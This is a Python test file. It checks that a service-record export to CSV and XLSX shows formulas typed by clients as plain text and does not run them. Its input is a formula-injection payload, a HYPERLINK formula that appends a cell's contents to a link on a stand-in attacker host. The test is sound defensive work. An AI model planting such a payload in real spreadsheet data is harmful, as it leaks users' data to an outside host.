"""§12.1: a service record exported to CSV or XLSX shows what a client typed, never runs it as a formula."""

import csv
import io
from datetime import date, datetime

from saas.records import services as records
from tests.conftest import SHANGHAI


def test_s12_1_a_formula_typed_by_a_client_is_shown_not_run(office_alpha, raise_request, world, clock, db):
    clock.set(datetime(2026, 11, 2, 10, 0, tzinfo=SHANGHAI))
    raise_request(office_alpha, "GENERAL", subject='=HYPERLINK("http://evil.example/?"&A1,"click")')
    record = records.service_record(office_alpha["contract"], date(2026, 11, 1), date(2026, 11, 30))
    rows = list(csv.reader(io.StringIO(records.export_csv(record).decode("utf-8-sig"))))
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(records.export_xlsx(record))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
